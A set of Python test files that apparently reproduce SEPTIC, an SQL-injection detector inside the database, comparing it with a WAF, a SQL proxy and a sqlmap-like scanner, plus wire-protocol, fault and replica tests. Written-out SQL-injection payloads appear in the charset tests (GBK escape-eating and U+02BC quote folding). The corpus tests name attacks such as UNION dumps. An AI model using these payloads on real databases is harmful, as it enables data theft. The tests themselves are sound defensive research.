        _, modsec = run_all("modsec")
        _, septic = run_all("septic")
        waf_missed = sum(
            1 for name, o in modsec.items()
            if o.succeeded and name not in SELF_DEFEATING
        )
        septic_missed = sum(
            1 for name, o in septic.items()
            if o.succeeded and name not in SELF_DEFEATING
        )
        assert septic_missed == 0
        assert waf_missed >= 5

    def test_combined_deployment_blocks_everything(self):
        _, outcomes = run_all("septic+modsec")
        assert not any(o.succeeded for o in outcomes.values())

    def test_expected_detection_labels(self):
        """Each attack's logged detection matches the corpus annotation."""
        scenario = build_scenario("septic")
        for case in waspmon_attacks():
            if case.expected_detection is None:
                continue
            before = len(scenario.septic.logger.attacks)
            run_case(scenario.server, scenario.app, case)
            new = scenario.septic.logger.attacks[before:]
            assert new, case.name
            first = new[0]
            if case.expected_detection in ("structural", "syntactical"):
                label = "structural" if first.step == 1 else "syntactical"
                assert label == case.expected_detection, case.name
            else:
                assert first.attack_type == case.expected_detection, \
                    case.name
