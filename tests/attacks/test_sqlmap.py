"""Tests for the sqlmap-lite probe driver."""

import pytest

from repro.attacks.scenario import build_scenario
from repro.attacks.sqlmap import SqlmapLite


@pytest.fixture(scope="module")
def unprotected_findings():
    scenario = build_scenario("none")
    scanner = SqlmapLite(scenario.server, scenario.app)
    return scanner.test_application(), scanner


@pytest.fixture(scope="module")
def septic_findings():
    scenario = build_scenario("septic")
    scanner = SqlmapLite(scenario.server, scenario.app)
    return scanner.test_application(), scanner


class TestUnprotected(object):
    def test_finds_the_numeric_pin_hole(self, unprotected_findings):
        findings, _ = unprotected_findings
        pin = [f for f in findings if f.param == "pin"]
        techniques = {f.technique for f in pin}
        assert "boolean-based blind" in techniques
        assert "UNION query" in techniques
        assert "time-based blind" in techniques

    def test_finds_the_unicode_hole(self, unprotected_findings):
        findings, _ = unprotected_findings
        history = [f for f in findings
                   if f.path == "/history" and f.param == "serial"]
        assert any(f.technique == "UNION query" for f in history)
        assert any("ʼ" in f.payload for f in history)

    def test_union_payload_extracts_marker(self, unprotected_findings):
        findings, _ = unprotected_findings
        union = [f for f in findings if f.technique == "UNION query"]
        assert union and all("UNION SELECT" in f.payload for f in union)

    def test_requests_counted(self, unprotected_findings):
        _, scanner = unprotected_findings
        assert scanner.requests_sent > 100


class TestUnderSeptic(object):
    def test_no_exploitable_channels_remain(self, septic_findings):
        findings, _ = septic_findings
        techniques = {f.technique for f in findings}
        # error-based remains (the app leaks parse-error text), but no
        # channel that requires the injected query to EXECUTE survives
        assert "boolean-based blind" not in techniques
        assert "UNION query" not in techniques
        assert "time-based blind" not in techniques

    def test_probes_were_dropped(self, septic_findings):
        _, scanner = septic_findings
        septic = scanner.app.database.septic
        assert septic.stats.queries_dropped > 0
