"""Integration tests: the GreenSQL-style SQL proxy deployment.

The paper's related-work argument (§I, §II-B): protection components
*between* the application and the DBMS fingerprint queries before the
DBMS decodes them, so decoding-dependent attacks and data-only (stored)
attacks pass.  SEPTIC, inside the DBMS, sees the decoded query.
"""

import pytest

from repro.attacks.corpus import benign_cases, run_case, waspmon_attacks
from repro.attacks.scenario import build_scenario

#: attacks whose query text structurally changes BEFORE any decoding —
#: the proxy catches these
TEXT_LEVEL = {
    "second_order_unicode",       # stage-1 INSERT text changes shape
    "second_order_classic",
    "numeric_tautology",
    "numeric_tautology_evasive",
    "numeric_union_dump",
    "numeric_piggyback",
    "numeric_sleep_blind",
    "numeric_sleep_evasive",
    "orderby_blind",
}

#: attacks invisible to a pre-decoding fingerprint: unicode/GBK channels
#: (the quote is literal content to the proxy) and stored injection
#: (pure data, shape unchanged)
DECODE_OR_DATA_LEVEL = {
    "unicode_tautology",
    "unicode_mimicry",
    "unicode_union",
    "gbk_exfiltration",
    "stored_xss_script",
    "stored_xss_evasive",
    "stored_rfi",
    "stored_lfi",
    "stored_osci",
    "stored_rce_php",
    "stored_rce_serialized",
}


@pytest.fixture(scope="module")
def results():
    scenario = build_scenario("dbfirewall")
    outcomes = {
        case.name: run_case(scenario.server, scenario.app, case)
        for case in waspmon_attacks()
    }
    return scenario, outcomes


class TestDbFirewallScenario(object):
    def test_text_level_attacks_blocked(self, results):
        _, outcomes = results
        for name in TEXT_LEVEL:
            assert outcomes[name].firewall_blocked, name

    def test_decode_and_data_level_attacks_pass(self, results):
        _, outcomes = results
        for name in DECODE_OR_DATA_LEVEL:
            outcome = outcomes[name]
            assert not outcome.firewall_blocked, name
            assert outcome.succeeded, name

    def test_firewall_strictly_weaker_than_septic(self, results):
        _, fw_outcomes = results
        scenario = build_scenario("septic")
        septic_outcomes = {
            case.name: run_case(scenario.server, scenario.app, case)
            for case in waspmon_attacks()
        }
        fw_missed = {n for n, o in fw_outcomes.items() if o.succeeded}
        septic_missed = {n for n, o in septic_outcomes.items()
                         if o.succeeded}
        assert septic_missed == set()
        assert len(fw_missed) >= 10

    def test_no_false_positives_on_benign(self, results):
        scenario, _ = results
        for case in benign_cases(scenario.app):
            outcome = run_case(scenario.server, scenario.app, case)
            assert outcome.succeeded and not outcome.blocked, case.name

    def test_proxies_interposed_on_every_runtime(self, results):
        scenario, _ = results
        # WaspMon has two connectors (utf8 + legacy GBK); both proxied
        assert len(scenario.firewalls) == 2
        assert all(fw.mode == "ENFORCING" for fw in scenario.firewalls)

    def test_firewall_learned_the_workload(self, results):
        scenario, _ = results
        assert sum(len(fw) for fw in scenario.firewalls) >= 12
        assert all(fw.queries_seen > 0 for fw in scenario.firewalls)
