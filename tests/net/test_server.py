"""Integration tests for the socket front end (server + client + pool)."""

import pytest

from repro.core.logger import SepticLogger
from repro.core.septic import Mode, Septic
from repro.net.client import NetClient, RemoteError
from repro.net.pool import ConnectionPool, PoolExhaustedError
from repro.net.server import NetServer
from repro.sqldb.engine import Database
from tests.conftest import TICKETS_SCHEMA


class TestQueries(object):
    def test_literal_select(self, client):
        outcome = client.query_or_raise(
            "SELECT reservID, creditCard FROM tickets WHERE id = 1"
        )
        assert outcome.columns == ["reservID", "creditCard"]
        assert outcome.rows == [("ID34FG", 1234)]

    def test_write_then_read_back(self, client):
        write = client.query_or_raise(
            "INSERT INTO tickets (reservID, creditCard) VALUES ('NEW1', 7)"
        )
        assert write.affected_rows == 1
        assert write.last_insert_id is not None
        row = client.query_or_raise(
            "SELECT creditCard FROM tickets WHERE reservID = 'NEW1'"
        )
        assert row.scalar() == 7

    def test_error_travels_as_err_frame(self, client):
        outcome = client.query("SELEKT nonsense")
        assert not outcome.ok
        assert isinstance(outcome.error, RemoteError)
        assert outcome.error.kind == "ParseError"

    def test_ping(self, client):
        assert client.ping() is True

    def test_transactions_over_the_wire(self, client):
        client.query_or_raise("BEGIN")
        client.query_or_raise(
            "INSERT INTO tickets (reservID, creditCard) VALUES ('TX1', 1)"
        )
        client.query_or_raise("COMMIT")
        assert client.query_or_raise(
            "SELECT COUNT(*) FROM tickets WHERE reservID = 'TX1'"
        ).scalar() == 1


class TestPipelining(object):
    def test_responses_come_back_in_command_order(self, client):
        seqs = [client.send_query(
            "SELECT reservID FROM tickets WHERE id = %d" % (i % 3 + 1)
        ) for i in range(12)]
        outcomes = client.drain()
        assert [o.seq for o in outcomes] == seqs
        assert all(o.ok for o in outcomes)
        assert client.pending == 0

    def test_mixed_pipeline_preserves_order(self, client):
        s1 = client.send_query("SELECT 1")
        s2 = client.send_ping()
        s3 = client.send_query("SELEKT broken")
        s4 = client.send_query("SELECT 2")
        outcomes = client.drain()
        assert [o.seq for o in outcomes] == [s1, s2, s3, s4]
        assert outcomes[0].scalar() == 1
        assert outcomes[2].error is not None
        assert outcomes[3].scalar() == 2

    def test_deep_pipeline_batches_executor_hops(self, served):
        database, server = served
        with NetClient(server.host, server.port) as client:
            for _ in range(40):
                client.send_ping()
            outcomes = client.drain()
        assert len(outcomes) == 40
        stats = server.stats_dict()
        # 40 commands must not have cost 40 executor hops — batching is
        # the amortization the throughput gate measures
        assert stats["commands"] >= 40
        assert stats["batches"] < 40

    def test_backpressure_counts_flow_pauses(self):
        database = Database()
        database.seed(TICKETS_SCHEMA)
        with NetServer(database, inbox_limit=2, batch_limit=1) as server:
            with NetClient(server.host, server.port) as client:
                for _ in range(64):
                    client.send_query("SELECT COUNT(*) FROM tickets")
                outcomes = client.drain()
            assert all(o.ok for o in outcomes)
            assert server.stats_dict()["flow_pauses"] > 0


class TestPreparedOverTheWire(object):
    def test_prepare_execute_close(self, client):
        handle = client.prepare(
            "SELECT reservID FROM tickets WHERE creditCard = ?"
        )
        assert handle.param_count == 1
        assert client.execute(handle, 1234).rows == [("ID34FG",)]
        assert client.execute(handle, 9999).rows == [("ZZ11AA",)]
        assert client.close_statement(handle) is True

    def test_execute_after_close_is_err_1243(self, client):
        handle = client.prepare("SELECT * FROM tickets WHERE id = ?")
        client.close_statement(handle)
        outcome = client.execute(handle, 1)
        assert outcome.error is not None
        assert outcome.error.errno == 1243

    def test_prepare_parse_error_raises(self, client):
        with pytest.raises(RemoteError):
            client.prepare("SELEKT ? FROM nowhere")

    def test_repeat_executions_hit_the_pipeline_cache(self, served):
        database, server = served
        with NetClient(server.host, server.port) as client:
            handle = client.prepare_cached(
                "SELECT reservID FROM tickets WHERE creditCard = ?"
            )
            client.execute(handle, 1234)
            hits_before = database.pipeline_cache.hits
            for _ in range(5):
                assert client.execute(handle, 1234).rows == [("ID34FG",)]
            assert database.pipeline_cache.hits >= hits_before + 5

    def test_prepare_cached_reuses_the_server_side_id(self, client):
        first = client.prepare_cached("SELECT * FROM tickets WHERE id = ?")
        second = client.prepare_cached("SELECT * FROM tickets WHERE id = ?")
        assert first is second


class TestConnectionLimits(object):
    def test_capacity_rejection_is_err_1040(self):
        database = Database()
        database.seed(TICKETS_SCHEMA)
        with NetServer(database, max_connections=1) as server:
            with NetClient(server.host, server.port) as first:
                assert first.ping()
                with pytest.raises((RemoteError, OSError)) as excinfo:
                    NetClient(server.host, server.port)
                if isinstance(excinfo.value, RemoteError):
                    assert excinfo.value.errno == 1040
            assert server.stats_dict()["rejected"] >= 1

    def test_unknown_charset_is_err_1115(self, served):
        _database, server = served
        with pytest.raises(RemoteError) as excinfo:
            NetClient(server.host, server.port, charset="klingon")
        assert excinfo.value.errno == 1115

    def test_slot_frees_on_disconnect(self):
        database = Database()
        database.seed(TICKETS_SCHEMA)
        with NetServer(database, max_connections=1) as server:
            with NetClient(server.host, server.port) as client:
                client.ping()
            # the slot must come back once the first client leaves
            for _ in range(50):
                try:
                    second = NetClient(server.host, server.port)
                    break
                except (RemoteError, OSError):
                    continue
            else:
                pytest.fail("connection slot never freed")
            with second:
                assert second.ping()


class TestStats(object):
    def test_counters_and_septic_status(self):
        septic = Septic(mode=Mode.TRAINING, logger=SepticLogger())
        database = Database(septic=septic)
        database.seed(TICKETS_SCHEMA)
        septic.bound_database = database
        with NetServer(database) as server:
            with NetClient(server.host, server.port) as client:
                client.query("SELECT COUNT(*) FROM tickets")
            stats = server.stats_dict()
            assert stats["accepted"] == 1
            assert stats["commands"] >= 1
            net = septic.status()["net"]
            assert net is not None and net["accepted"] == 1
        # after stop the provider is uninstalled again
        assert septic.status()["net"] is None


class TestConnectionPool(object):
    def test_checkout_reuses_released_connections(self, served):
        _database, server = served
        pool = ConnectionPool(server.host, server.port, size=2,
                              server=server)
        try:
            with pool.connection() as conn:
                assert conn.ping()
            with pool.connection() as conn:
                assert conn.query_or_raise("SELECT 1").scalar() == 1
            stats = pool.stats_dict()
            assert stats["created"] == 1
            assert stats["reuses"] == 1
            assert server.stats_dict()["pooled"] == 1
        finally:
            pool.close()

    def test_pooled_connection_keeps_statement_handles_warm(self, served):
        _database, server = served
        pool = ConnectionPool(server.host, server.port, size=1)
        try:
            with pool.connection() as conn:
                first = conn.prepare_cached(
                    "SELECT reservID FROM tickets WHERE id = ?"
                )
            with pool.connection() as conn:
                again = conn.prepare_cached(
                    "SELECT reservID FROM tickets WHERE id = ?"
                )
                assert again is first  # same socket, same server-side id
                assert conn.execute(again, 2).rows == [("ZZ11AA",)]
        finally:
            pool.close()

    def test_exhausted_pool_raises_after_timeout(self, served):
        _database, server = served
        pool = ConnectionPool(server.host, server.port, size=1,
                              checkout_timeout=0.05)
        try:
            held = pool.checkout()
            with pytest.raises(PoolExhaustedError):
                pool.checkout()
            pool.release(held)
        finally:
            pool.close()

    def test_dead_idle_connection_is_replaced(self, served):
        _database, server = served
        pool = ConnectionPool(server.host, server.port, size=1)
        try:
            first = pool.checkout()
            pool.release(first)
            first._sock.close()  # kill it behind the pool's back
            second = pool.checkout()
            assert second is not first
            assert second.ping()
            assert pool.stats_dict()["health_failures"] == 1
            pool.release(second)
        finally:
            pool.close()
