"""Kill-mid-frame crash test: a torn response never acks a write.

The durability contract across the wire composes two guarantees:

* **group commit orders fsync before acknowledgement** — the worker
  writes a batch's OK frames only after the GroupCommitter has made the
  batch's commit frontier durable, so any OK a client *fully receives*
  names a committed-and-fsynced write;
* **framing refuses torn responses** — when the server dies mid-write
  (the armed ``net.write`` fault sends exactly half the frame), the
  client's length/CRC check raises :class:`TornFrameError` instead of
  surfacing whatever half-an-OK would have said.

So after a crash + recovery: every write the client saw an OK for is in
the recovered database, and the torn write's fate is *undecided* — the
client knows it must re-check, exactly a crashed MySQL server's
contract.
"""

import pytest

from repro import faults
from repro.faults import FaultKind, FaultPlan
from repro.net import protocol
from repro.net.client import NetClient
from repro.net.server import NetServer
from repro.sqldb.engine import Database
from tests.conftest import TICKETS_SCHEMA

INSERT = "INSERT INTO tickets (reservID, creditCard) VALUES ('%s', %d)"


def _recovered_reservids(data_dir):
    database = Database.recover(data_dir)
    try:
        return [row["reservid"]
                for row in database.table("tickets").rows]
    finally:
        database.close()


@pytest.fixture
def durable_served(tmp_path):
    """A WAL-backed database (group-commit sync mode) behind a server."""
    data_dir = str(tmp_path / "netcrash")
    database = Database.recover(data_dir, wal_sync="batch",
                                wal_batch_commits=10 ** 6)
    for statement in TICKETS_SCHEMA.strip().rstrip(";").split(";"):
        database.run(statement)
    server = NetServer(database)
    server.start()
    yield database, server, data_dir
    server.stop()
    database.close()


class TestKillMidFrame(object):
    def test_acked_writes_survive_recovery(self, durable_served):
        database, server, data_dir = durable_served
        acked = []
        with NetClient(server.host, server.port) as client:
            for index in range(5):
                name = "ACK%d" % index
                outcome = client.query(INSERT % (name, index))
                if outcome.ok:
                    acked.append(name)
        assert len(acked) == 5
        # crash: no clean shutdown, no final fsync — recover from disk
        survivors = _recovered_reservids(data_dir)
        for name in acked:
            assert name in survivors

    def test_torn_frame_is_never_an_ack(self, durable_served):
        database, server, data_dir = durable_served
        client = NetClient(server.host, server.port)
        assert client.query(INSERT % ("SAFE", 1)).ok

        plan = FaultPlan()
        plan.inject("net.write", FaultKind.RAISE, times=1)
        acked_torn = False
        with faults.armed(plan):
            client.send_query(INSERT % ("TORN", 2))
            try:
                acked_torn = client.drain(1)[0].ok
            except (protocol.TornFrameError, OSError):
                pass  # undecided — the only acceptable answer
        assert not acked_torn
        client.close()

        survivors = _recovered_reservids(data_dir)
        # the acked write is durably there; the torn one may or may not
        # be (undecided), but its presence was never *claimed*
        assert "SAFE" in survivors

    def test_group_commit_acks_only_after_fsync(self, durable_served):
        """Every OK the client holds names an fsync-covered commit:
        the WAL's synced LSN can never trail an acknowledged commit."""
        database, server, data_dir = durable_served
        with NetClient(server.host, server.port) as client:
            for index in range(8):
                client.send_query(INSERT % ("GC%d" % index, index))
            outcomes = client.drain()
            assert all(o.ok for o in outcomes)
            wal = database.wal
            assert wal.synced_lsn == wal.last_lsn
            # and batching means far fewer fsyncs than commits
            assert wal.fsync_calls < wal.commits

    def test_fresh_client_sees_acked_rows_immediately(self, durable_served):
        _database, server, _data_dir = durable_served
        with NetClient(server.host, server.port) as writer:
            assert writer.query(INSERT % ("VIS", 9)).ok
        with NetClient(server.host, server.port) as reader:
            assert reader.query_or_raise(
                "SELECT COUNT(*) FROM tickets WHERE reservID = 'VIS'"
            ).scalar() == 1
