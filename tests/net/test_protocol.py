"""Unit tests for the wire framing (length + CRC, torn-frame refusal)."""

import pytest

from repro.net import protocol


def _roundtrip(opcode, payload):
    blob = protocol.encode_frame(opcode, payload)
    length, crc = protocol.unpack_header(blob[:protocol.HEADER.size])
    body = blob[protocol.HEADER.size:]
    assert len(body) == length
    return protocol.decode_body(body, crc)


class TestFraming(object):
    def test_roundtrip(self):
        opcode, payload = _roundtrip(
            protocol.COM_QUERY, {"sql": "SELECT 1", "seq": 7}
        )
        assert opcode == protocol.COM_QUERY
        assert payload == {"sql": "SELECT 1", "seq": 7}

    def test_roundtrip_empty_payload(self):
        opcode, payload = _roundtrip(protocol.COM_QUIT, {})
        assert opcode == protocol.COM_QUIT
        assert payload == {}

    def test_roundtrip_unicode_survives(self):
        # the charset tests depend on wire transport being byte-exact
        text = "ʼ ¿\\' 縺"
        _opcode, payload = _roundtrip(protocol.COM_QUERY, {"sql": text})
        assert payload["sql"] == text

    def test_opcode_names_cover_both_directions(self):
        for name in ("COM_QUERY", "OK", "ERR", "RESULTSET", "PONG"):
            assert name in protocol.OPCODE_NAMES.values()


class TestTornFrames(object):
    def test_short_header_is_torn(self):
        with pytest.raises(protocol.TornFrameError):
            protocol.unpack_header(b"\x01\x02\x03")

    def test_oversize_length_is_framing_damage(self):
        blob = protocol.HEADER.pack(protocol.MAX_FRAME_BYTES + 1, 0)
        with pytest.raises(protocol.NetProtocolError):
            protocol.unpack_header(blob)

    def test_corrupt_body_fails_crc(self):
        blob = protocol.encode_frame(protocol.OK, {"affected": 1})
        _length, crc = protocol.unpack_header(blob[:protocol.HEADER.size])
        body = bytearray(blob[protocol.HEADER.size:])
        body[-1] ^= 0xFF
        with pytest.raises(protocol.TornFrameError):
            protocol.decode_body(bytes(body), crc)

    def test_truncated_body_fails_crc(self):
        # the kill-mid-write shape: a prefix of the frame arrived
        blob = protocol.encode_frame(protocol.OK, {"affected": 1})
        _length, crc = protocol.unpack_header(blob[:protocol.HEADER.size])
        body = blob[protocol.HEADER.size:]
        with pytest.raises(protocol.TornFrameError):
            protocol.decode_body(body[: len(body) // 2], crc)

    def test_non_json_payload_rejected(self):
        body = bytes([protocol.OK]) + b"\xff\xfe not json"
        import zlib

        with pytest.raises(protocol.NetProtocolError):
            protocol.decode_body(body, zlib.crc32(body) & 0xFFFFFFFF)

    def test_non_object_payload_rejected(self):
        import zlib

        body = bytes([protocol.OK]) + b"[1,2,3]"
        with pytest.raises(protocol.NetProtocolError):
            protocol.decode_body(body, zlib.crc32(body) & 0xFFFFFFFF)
