"""Charset semantics must be byte-identical over the socket.

The paper's decoding channel (§II-D): the DBMS decodes a query under
the *connection* charset before parsing, so GBK escape-eating and
unicode-confusable folding change what a query means.  The wire front
end negotiates the charset at handshake and routes COM_QUERY text
through the exact same :func:`~repro.sqldb.charset.decode_query` an
in-process connection uses — these tests hold the two paths to
byte-for-byte identical results.

Bound parameters are the contrast: they travel as typed JSON in
COM_STMT_EXECUTE and are bound *after* decoding, so the same attack
bytes inside a parameter stay inert data, whatever the charset.
"""

from repro.net.client import NetClient
from repro.sqldb.connection import Connection

#: the §II-D1 second-order payload: U+02BC folds to a live quote
FOLDING_PAYLOAD = "ID34FGʼ-- "

#: the classic GBK shape: 0xBF + escaped quote -> merged char + live quote
GBK_PAYLOAD = "¿\\' OR '1'='1"

TEMPLATE = "SELECT reservID, creditCard FROM tickets WHERE reservID = '%s'"


def _wire_rows(server, charset, sql):
    with NetClient(server.host, server.port, charset=charset) as client:
        outcome = client.query(sql)
    if outcome.error is not None:
        return ("error", outcome.error.errno)
    return outcome.rows


def _local_rows(database, charset, sql):
    outcome = Connection(database, charset=charset).query(sql)
    if outcome.error is not None:
        return ("error", outcome.error.errno)
    return [tuple(row) for row in outcome.result_set.rows]


class TestLiteralQueriesDecodeIdentically(object):
    def test_gbk_escape_eating_matches_in_process(self, served):
        database, server = served
        sql = TEMPLATE % GBK_PAYLOAD
        wire = _wire_rows(server, "gbk", sql)
        local = _local_rows(database, "gbk", sql)
        assert wire == local
        # and the decode really went live: the eaten escape turns the
        # tautology on, so every ticket comes back
        assert len(wire) == 3

    def test_gbk_payload_is_inert_under_latin1(self, served):
        database, server = served
        sql = TEMPLATE % GBK_PAYLOAD
        wire = _wire_rows(server, "latin1", sql)
        assert wire == _local_rows(database, "latin1", sql)
        # no escape eating: the backslash keeps its quote escaped, the
        # payload's own trailing quote never closes, and both paths see
        # the same parse error instead of a tautology
        assert wire == ("error", 1064)

    def test_u02bc_folding_matches_in_process(self, served):
        database, server = served
        sql = TEMPLATE % FOLDING_PAYLOAD
        wire = _wire_rows(server, "utf8", sql)
        local = _local_rows(database, "utf8", sql)
        assert wire == local
        # folding closed the literal early and commented out the tail,
        # so the query matches the real ID34FG row
        assert wire == [("ID34FG", 1234)]

    def test_u02bc_stays_data_under_utf8_strict(self, served):
        database, server = served
        sql = TEMPLATE % FOLDING_PAYLOAD
        wire = _wire_rows(server, "utf8_strict", sql)
        assert wire == _local_rows(database, "utf8_strict", sql)
        assert wire == []


class TestBoundParamsBypassDecoding(object):
    def test_gbk_payload_in_a_param_is_inert(self, served):
        _database, server = served
        with NetClient(server.host, server.port, charset="gbk") as client:
            handle = client.prepare(
                "SELECT reservID FROM tickets WHERE reservID = ?"
            )
            outcome = client.execute(handle, GBK_PAYLOAD)
        assert outcome.ok
        assert outcome.rows == []  # data, not a tautology

    def test_u02bc_in_a_param_survives_byte_for_byte(self, served):
        _database, server = served
        with NetClient(server.host, server.port, charset="utf8") as client:
            ins = client.prepare(
                "INSERT INTO tickets (reservID, creditCard) VALUES (?, ?)"
            )
            assert client.execute(ins, FOLDING_PAYLOAD, 42).ok
            sel = client.prepare(
                "SELECT reservID FROM tickets WHERE creditCard = ?"
            )
            outcome = client.execute(sel, 42)
        # the stored value still holds the raw U+02BC — folding never
        # touched the bound bytes on their way in or out
        assert outcome.rows == [(FOLDING_PAYLOAD,)]

    def test_param_and_literal_disagree_on_the_same_bytes(self, served):
        """The crux: identical attack bytes — live as a literal, inert
        as a parameter — on the same GBK connection."""
        _database, server = served
        with NetClient(server.host, server.port, charset="gbk") as client:
            literal = client.query(TEMPLATE % GBK_PAYLOAD)
            handle = client.prepare(
                "SELECT reservID, creditCard FROM tickets "
                "WHERE reservID = ?"
            )
            bound = client.execute(handle, GBK_PAYLOAD)
        assert literal.ok and len(literal.rows) == 3
        assert bound.ok and bound.rows == []
