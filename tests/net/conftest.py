"""Shared fixtures for the wire-protocol tests: a served database."""

import pytest

from repro.net.client import NetClient
from repro.net.server import NetServer
from repro.sqldb.engine import Database
from tests.conftest import TICKETS_SCHEMA


@pytest.fixture
def served():
    """``(database, server)`` — a tickets database behind a NetServer
    on an ephemeral port."""
    database = Database()
    database.seed(TICKETS_SCHEMA)
    server = NetServer(database)
    server.start()
    yield database, server
    server.stop()


@pytest.fixture
def client(served):
    _database, server = served
    with NetClient(server.host, server.port) as net_client:
        yield net_client
