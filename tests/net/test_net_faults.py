"""Fault containment at the four ``net.*`` sites, over real sockets.

The E12 matrix (tests/core/test_fault_matrix.py) already drives every
``net.*`` site through the in-process query path, where they are inert;
these tests arm them where they actually live — under a running
server — and hold the blast radius to one connection: the client sees a
torn frame or an injected error, never a fake acknowledgement, and the
server keeps serving fresh connections afterwards.
"""

import pytest

from repro import faults
from repro.faults import FaultKind, FaultPlan, InjectedFault
from repro.net import protocol
from repro.net.client import NetClient


def _fresh_connection_works(server):
    with NetClient(server.host, server.port) as client:
        return client.query("SELECT COUNT(*) FROM tickets").ok


class TestNetFaultContainment(object):
    def test_accept_fault_rejects_the_connection(self, served):
        _database, server = served
        plan = FaultPlan()
        plan.inject("net.accept", FaultKind.RAISE, times=1)
        with faults.armed(plan):
            with pytest.raises((protocol.TornFrameError, OSError)):
                NetClient(server.host, server.port)
        assert server.stats_dict()["rejected"] >= 1
        assert _fresh_connection_works(server)

    def test_read_fault_tears_only_that_connection(self, served):
        _database, server = served
        client = NetClient(server.host, server.port)
        plan = FaultPlan()
        plan.inject("net.read", FaultKind.RAISE, times=1)
        with faults.armed(plan):
            client.send_query("SELECT COUNT(*) FROM tickets")
            with pytest.raises((protocol.TornFrameError, OSError)):
                client.drain(1)
        client.close()
        assert _fresh_connection_works(server)

    def test_write_fault_yields_a_torn_frame_never_an_ack(self, served):
        _database, server = served
        client = NetClient(server.host, server.port)
        plan = FaultPlan()
        plan.inject("net.write", FaultKind.RAISE, times=1)
        with faults.armed(plan):
            client.send_query(
                "INSERT INTO tickets (reservID, creditCard) "
                "VALUES ('TORN', 1)"
            )
            # half a frame comes back; the CRC/length framing refuses it
            with pytest.raises((protocol.TornFrameError, OSError)):
                client.drain(1)
        client.close()
        assert _fresh_connection_works(server)

    def test_frame_fault_fails_the_send_not_the_server(self, served):
        _database, server = served
        client = NetClient(server.host, server.port)
        plan = FaultPlan()
        plan.inject("net.frame", FaultKind.RAISE, times=1)
        with faults.armed(plan):
            # encoding blows up client-side before any bytes move
            with pytest.raises(InjectedFault):
                client.send_query("SELECT 1")
        client.close()
        assert _fresh_connection_works(server)

    def test_all_sites_recover_for_later_connections(self, served):
        """Sweep every net site: after each injected episode the server
        must accept and serve a brand-new connection."""
        _database, server = served
        for site in ("net.accept", "net.read", "net.write", "net.frame"):
            plan = FaultPlan()
            plan.inject(site, FaultKind.RAISE, times=1)
            with faults.armed(plan):
                try:
                    with NetClient(server.host, server.port) as client:
                        client.query("SELECT 1")
                except (InjectedFault, protocol.NetProtocolError, OSError):
                    pass  # contained: this connection only
            assert _fresh_connection_works(server), site
