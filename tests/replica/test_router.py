"""RoutingConnection: bounded-staleness reads, write routing, and
virtual-time retry through a failover."""

import pytest

from repro.benchlab.crashsweep import MarkerSeptic
from repro.replica import ReplicaSet, Role
from repro.sqldb.connection import Connection
from repro.sqldb.errors import (QueryBlocked, TransientEngineError,
                                ValidationError)


def make_set(tmp_path, **kwargs):
    kwargs.setdefault("replicas", 2)
    kwargs.setdefault("heartbeat_interval", 2)
    kwargs.setdefault("lease_intervals", 2)
    kwargs.setdefault("septic_factory", MarkerSeptic)
    return ReplicaSet(str(tmp_path / "set"), **kwargs)


def seed_rows(replica_set, count=4):
    conn = Connection(replica_set.primary.database, multi_statements=True)
    conn.query_or_raise(
        "CREATE TABLE items (id INT AUTO_INCREMENT PRIMARY KEY, "
        "name VARCHAR(30))")
    for index in range(count):
        conn.query_or_raise(
            "INSERT INTO items (name) VALUES ('row%d')" % index)
    replica_set.ship()
    return conn


class TestReadRouting(object):
    def test_reads_round_robin_across_replicas(self, tmp_path):
        replica_set = make_set(tmp_path)
        seed_rows(replica_set)
        router = replica_set.connect()
        for _ in range(4):
            outcome = router.query_or_raise("SELECT COUNT(*) FROM items")
            assert outcome.rows[0][0] == 4
        assert router.reads_on_replicas == 4
        assert router.reads_on_primary == 0
        # both replicas served
        picked = set(router.pick_node(True).name for _ in range(2))
        assert picked == {"node1", "node2"}
        replica_set.close()

    def test_stale_replicas_are_skipped(self, tmp_path):
        replica_set = make_set(tmp_path)
        conn = seed_rows(replica_set)
        lagger = replica_set.node("node2")
        replica_set.partition(lagger)
        conn.query_or_raise("INSERT INTO items (name) VALUES ('new')")
        replica_set.ship()
        router = replica_set.connect(max_lag_lsn=0)
        for _ in range(4):
            outcome = router.query_or_raise("SELECT COUNT(*) FROM items")
            # never a stale answer: the bound excludes the lagging node
            assert outcome.rows[0][0] == 5
        assert router.reads_on_replicas == 4
        # a looser bound admits the lagging replica (stale reads allowed)
        loose = replica_set.connect(max_lag_lsn=10)
        counts = set()
        for _ in range(4):
            counts.add(loose.query_or_raise(
                "SELECT COUNT(*) FROM items").rows[0][0])
        assert counts == {4, 5}
        replica_set.close()

    def test_all_replicas_stale_falls_back_to_primary(self, tmp_path):
        replica_set = make_set(tmp_path)
        conn = seed_rows(replica_set)
        for node in list(replica_set.replicas()):
            replica_set.partition(node)
        conn.query_or_raise("INSERT INTO items (name) VALUES ('new')")
        router = replica_set.connect(max_lag_lsn=0)
        outcome = router.query_or_raise("SELECT COUNT(*) FROM items")
        assert outcome.rows[0][0] == 5
        assert router.reads_on_primary == 1
        replica_set.close()


class TestWriteRouting(object):
    def test_writes_go_to_the_primary(self, tmp_path):
        replica_set = make_set(tmp_path)
        seed_rows(replica_set)
        router = replica_set.connect()
        router.query_or_raise("INSERT INTO items (name) VALUES ('w')")
        assert router.writes_routed == 1
        assert len(replica_set.primary.database.tables["items"].rows) == 5
        replica_set.close()

    def test_write_survives_failover_via_virtual_backoff(self, tmp_path):
        replica_set = make_set(tmp_path)
        seed_rows(replica_set)
        replica_set.tick(replica_set.heartbeat_interval)
        replica_set.kill_primary()
        router = replica_set.connect(retries=8, seed=3)
        outcome = router.query("INSERT INTO items (name) VALUES ('x')")
        assert outcome.ok
        stats = router.retry_stats.as_dict()
        assert stats["attempts"] == 1
        assert stats["retries"] >= 1
        assert stats["exhausted"] == 0
        assert stats["backoff_seconds"] > 0  # virtual ticks charged
        assert replica_set.promotions == 1
        new_primary = replica_set.primary
        assert new_primary.role == Role.PRIMARY
        names = [row.get("name")
                 for row in new_primary.database.tables["items"].rows]
        assert "x" in names
        replica_set.close()

    def test_retry_budget_exhausts_when_no_one_can_lead(self, tmp_path):
        replica_set = make_set(tmp_path, replicas=0)
        seed_rows(replica_set)
        replica_set.kill_primary()
        router = replica_set.connect(retries=3)
        outcome = router.query("INSERT INTO items (name) VALUES ('x')")
        assert isinstance(outcome.error, TransientEngineError)
        stats = router.retry_stats.as_dict()
        assert stats["exhausted"] == 1
        assert stats["retries"] == 3
        replica_set.close()

    def test_backoff_schedule_is_seeded_deterministic(self, tmp_path):
        replica_set = make_set(tmp_path)
        ticks_a = [replica_set.connect(seed=5)._next_backoff_ticks(n)
                   for n in range(1, 6)]
